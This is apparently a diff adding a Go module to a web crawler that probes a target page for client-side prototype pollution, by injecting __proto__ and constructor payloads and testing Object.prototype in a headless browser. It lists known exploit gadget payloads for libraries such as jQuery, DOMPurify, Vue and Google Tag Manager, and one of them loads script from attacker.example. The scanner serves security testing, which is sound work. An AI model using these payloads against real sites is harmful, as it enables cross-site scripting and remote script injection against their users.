@@ -0,0 +1,332 @@
+package htcrawl
+
+import (
+	"context"
+	"fmt"
+	"net/url"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/go-rod/rod/lib/proto"
+)
+
+const (
+	PollutionQuery    = "query"
+	PollutionFragment = "fragment"
+	PollutionJSON     = "json"
+	PollutionBody     = "body"
+)
+
+type PollutionVariant struct {
+	Name     string `json:"name" yaml:"name"`
+	Location string `json:"location" yaml:"location"`
+	Template string `json:"template" yaml:"template"`
+}
+
+var PollutionVariants = []PollutionVariant{
+	{Name: "proto-bracket", Location: PollutionQuery, Template: "__proto__[{prop}]={value}"},
+	{Name: "proto-dot", Location: PollutionQuery, Template: "__proto__.{prop}={value}"},
+	{Name: "constructor-bracket", Location: PollutionQuery, Template: "constructor[prototype][{prop}]={value}"},
+	{Name: "constructor-dot", Location: PollutionQuery, Template: "constructor.prototype.{prop}={value}"},
+	{Name: "nested-proto-bracket", Location: PollutionQuery, Template: "x[__proto__][{prop}]={value}"},
+	{Name: "stripped-proto-bracket", Location: PollutionQuery, Template: "__pro__proto__to__[{prop}]={value}"},
+	{Name: "proto-bracket", Location: PollutionFragment, Template: "__proto__[{prop}]={value}"},
+	{Name: "proto-dot", Location: PollutionFragment, Template: "__proto__.{prop}={value}"},
+	{Name: "constructor-bracket", Location: PollutionFragment, Template: "constructor[prototype][{prop}]={value}"},
+	{Name: "route-proto-bracket", Location: PollutionFragment, Template: "/?__proto__[{prop}]={value}"},
+	{Name: "json-proto", Location: PollutionJSON, Template: `{"__proto__":{"{prop}":"{value}"}}`},
+	{Name: "json-constructor", Location: PollutionJSON, Template: `{"constructor":{"prototype":{"{prop}":"{value}"}}}`},
+}
+
+const pollutionGadgetsReference = "https://github.com/BlackFan/client-side-prototype-pollution"
+
+type PollutionGadget struct {
+	Library   string `json:"library" yaml:"library"`
+	Detect    string `json:"detect" yaml:"detect"`
+	Payload   string `json:"payload" yaml:"payload"`
+	Reference string `json:"reference" yaml:"reference"`
+}
+
+var PollutionGadgets = []PollutionGadget{
+	{
+		Library:   "jQuery",
+		Detect:    `window.jQuery && jQuery.fn && jQuery.fn.jquery`,
+		Payload:   "__proto__[context]=<img/src/onerror=alert(1)>&__proto__[jquery]=x",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Google Analytics",
+		Detect:    `window.ga && window.ga.loaded && "analytics.js"`,
+		Payload:   "__proto__[hitCallback]=alert(1)",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Google Tag Manager",
+		Detect:    `window.google_tag_manager && Object.keys(window.google_tag_manager).join(",")`,
+		Payload:   "__proto__[customScriptSrc]=data:,alert(1)//",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Google reCAPTCHA",
+		Detect:    `window.grecaptcha && "grecaptcha"`,
+		Payload:   "__proto__[srcdoc][]=<script>alert(1)</script>",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Adobe Dynamic Tag Management",
+		Detect:    `window._satellite && (window._satellite.buildDate || "_satellite")`,
+		Payload:   "__proto__[src]=data:,alert(1)//",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Vue.js",
+		Detect:    `window.Vue && (window.Vue.version || "vue")`,
+		Payload:   "__proto__[v-if]=_c.constructor('alert(1)')()",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "DOMPurify",
+		Detect:    `window.DOMPurify && (window.DOMPurify.version || "dompurify")`,
+		Payload:   "__proto__[ALLOWED_ATTR][0]=onerror&__proto__[ALLOWED_ATTR][1]=src",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Lodash",
+		Detect:    `window._ && window._.template && window._.VERSION`,
+		Payload:   "__proto__[sourceURL]=%E2%80%A8%E2%80%A9alert(1)",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Segment Analytics.js",
+		Detect:    `window.analytics && (window.analytics.VERSION || window.analytics.initialized && "analytics")`,
+		Payload:   "__proto__[script][0]=1&__proto__[script][1]=<img/src/onerror=alert(1)>&__proto__[script][2]=1",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Akamai Boomerang",
+		Detect:    `window.BOOMR && (window.BOOMR.version || "boomerang")`,
+		Payload:   "__proto__[BOOMR]=1&__proto__[url]=//attacker.example/js.js",
+		Reference: pollutionGadgetsReference,
+	},
+	{
+		Library:   "Popper.js",
+		Detect:    `window.Popper && (window.Popper.version || "popper")`,
+		Payload:   "__proto__[arrow][style]=color:red;transition:all%201s&__proto__[arrow][ontransitionend]=alert(1)",
+		Reference: pollutionGadgetsReference,
+	},
+}
+
+type PollutionOptions struct {
+	Variants []PollutionVariant `json:"variants" yaml:"variants"`
+	Gadgets  bool               `json:"gadgets" yaml:"gadgets"`
+	Wait     int                `json:"wait" yaml:"wait"`
+}
+
+func DefaultPollutionOptions() *PollutionOptions {
+	return &PollutionOptions{
+		Variants: PollutionVariants,
+		Gadgets:  true,
+		Wait:     500,
+	}
+}
+
+type GadgetMatch struct {
+	Library   string `json:"library"`
+	Version   string `json:"version"`
+	Payload   string `json:"payload"`
+	Reference string `json:"reference"`
+}
+
+type PollutionFinding struct {
+	Variant   string         `json:"variant"`
+	Location  string         `json:"location"`
+	Parameter string         `json:"parameter,omitempty"`
+	URL       string         `json:"url"`
+	Body      string         `json:"body,omitempty"`
+	Property  string         `json:"property"`
+	Gadgets   []*GadgetMatch `json:"gadgets,omitempty"`
+}
+
+type PollutionInjection struct {
+	Location  string
+	Parameter string
+	URL       string
+	Body      string
+}
+
+func PollutionURLs(target string, variant PollutionVariant, prop, value string) []*PollutionInjection {
+	u, err := url.Parse(target)
+	if err != nil {
+		return nil
+	}
+	u.Fragment = ""
+	u.RawFragment = ""
+	base := u.String()
+	rendered := strings.NewReplacer("{prop}", prop, "{value}", value).Replace(variant.Template)
+
+	injections := make([]*PollutionInjection, 0)
+	switch variant.Location {
+	case PollutionQuery:
+		q := *u
+		if q.RawQuery != "" {
+			q.RawQuery += "&"
+		}
+		q.RawQuery += rendered
+		injections = append(injections, &PollutionInjection{Location: PollutionQuery, URL: q.String()})
+	case PollutionFragment:
+		injections = append(injections, &PollutionInjection{Location: PollutionFragment, URL: base + "#" + rendered})
+	case PollutionJSON:
+		query := u.Query()
+		keys := make([]string, 0, len(query))
+		for k := range query {
+			keys = append(keys, k)
+		}
+		sort.Strings(keys)
+		for _, k := range keys {
+			q := *u
+			values := u.Query()
+			values.Set(k, rendered)
+			q.RawQuery = values.Encode()
+			injections = append(injections, &PollutionInjection{Location: PollutionQuery, Parameter: k, URL: q.String()})
+		}
+		injections = append(injections, &PollutionInjection{Location: PollutionFragment, URL: base + "#" + url.PathEscape(rendered)})
+		injections = append(injections, &PollutionInjection{Location: PollutionBody, URL: base, Body: rendered})
+	}
+	return injections
+}
+
+func (c *Crawler) CheckPrototypePollution(opts *PollutionOptions) ([]*PollutionFinding, error) {
+	if opts == nil {
+		opts = DefaultPollutionOptions()
+	}
+
+	findings := make([]*PollutionFinding, 0)
+	seen := make(map[string]bool)
+	seq := 0
+
+	for _, variant := range opts.Variants {
+		seq++
+		prop := "htcpp" + strconv.Itoa(seq)
+		value := "htcpp" + strconv.Itoa(seq)
+
+		for _, inj := range PollutionURLs(c.targetUrl, variant, prop, value) {
+			c.mu.RLock()
+			stop := c.stop
+			c.mu.RUnlock()
+			if stop {
+				return findings, nil
+			}
+
+			key := variant.Name + "\x00" + inj.Location + "\x00" + inj.Parameter
+			if seen[key] {
+				continue
+			}
+
+			polluted, err := c.loadPolluted(inj, prop, value, opts.Wait)
+			if err != nil {
+				c.mu.Lock()
+				c.errors = append(c.errors, [2]string{"pollution", err.Error()})
+				c.mu.Unlock()
+				continue
+			}
+			if !polluted {
+				continue
+			}
+
+			seen[key] = true
+			finding := &PollutionFinding{
+				Variant:   variant.Name,
+				Location:  inj.Location,
+				Parameter: inj.Parameter,
+				URL:       inj.URL,
+				Body:      inj.Body,
+				Property:  prop,
+			}
+			if opts.Gadgets {
+				finding.Gadgets = c.detectGadgets()
+			}
+			findings = append(findings, finding)
+		}
+	}
+
+	return findings, nil
+}
+
+func (c *Crawler) loadPolluted(inj *PollutionInjection, prop, value string, wait int) (bool, error) {
+	if err := c.page.Navigate("about:blank"); err != nil {
+		return false, err
+	}
+	if inj.Body != "" {
+		if err := c.navigateWithBody(inj.URL, "application/json", inj.Body); err != nil {
+			return false, err
+		}
+	} else if _, err := c.navigateTo(inj.URL); err != nil {
+		return false, err
+	}
+	if err := c.afterNavigation(nil); err != nil {
+		return false, err
+	}
+	if wait > 0 {
+		time.Sleep(time.Duration(wait) * time.Millisecond)
+	}
+
+	res, err := c.page.Eval(`(prop, value) => {
+		return Object.prototype.hasOwnProperty(prop) && String(Object.prototype[prop]) == value;
+	}`, prop, value)
+	if err != nil {
+		return false, err
+	}
+	return res.Value.Bool(), nil
+}
+
+func (c *Crawler) navigateWithBody(target, contentType, body string) error {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	page := c.page.Context(ctx)
+	sent := false
+	wait := page.EachEvent(func(e *proto.FetchRequestPaused) {
+		if sent || e.ResourceType != proto.NetworkResourceTypeDocument || e.FrameID != page.FrameID {
+			_ = proto.FetchContinueRequest{RequestID: e.RequestID}.Call(page)
+			return
+		}
+		sent = true
+		headers := []*proto.FetchHeaderEntry{{Name: "Content-Type", Value: contentType}}
+		for k, v := range e.Request.Headers {
+			if !strings.EqualFold(k, "Content-Type") {
+				headers = append(headers, &proto.FetchHeaderEntry{Name: k, Value: v.Str()})
+			}
+		}
+		_ = proto.FetchContinueRequest{RequestID: e.RequestID, Method: "POST", PostData: []byte(body), Headers: headers}.Call(page)
+	})
+	go wait()
+
+	_, err := c.navigateTo(target)
+	return err
+}
+
+func (c *Crawler) detectGadgets() []*GadgetMatch {
+	matches := make([]*GadgetMatch, 0)
+	for _, g := range PollutionGadgets {
+		res, err := c.page.Eval(fmt.Sprintf(`() => {
+			try {
+				var v = (%s);
+				return v ? String(v) : "";
+			} catch (e) {
+				return "";
+			}
+		}`, g.Detect))
+		if err != nil || res.Value.Str() == "" {
+			continue
+		}
+		matches = append(matches, &GadgetMatch{
+			Library:   g.Library,
+			Version:   res.Value.Str(),
+			Payload:   g.Payload,
+			Reference: g.Reference,
+		})
+	}
+	return matches
+}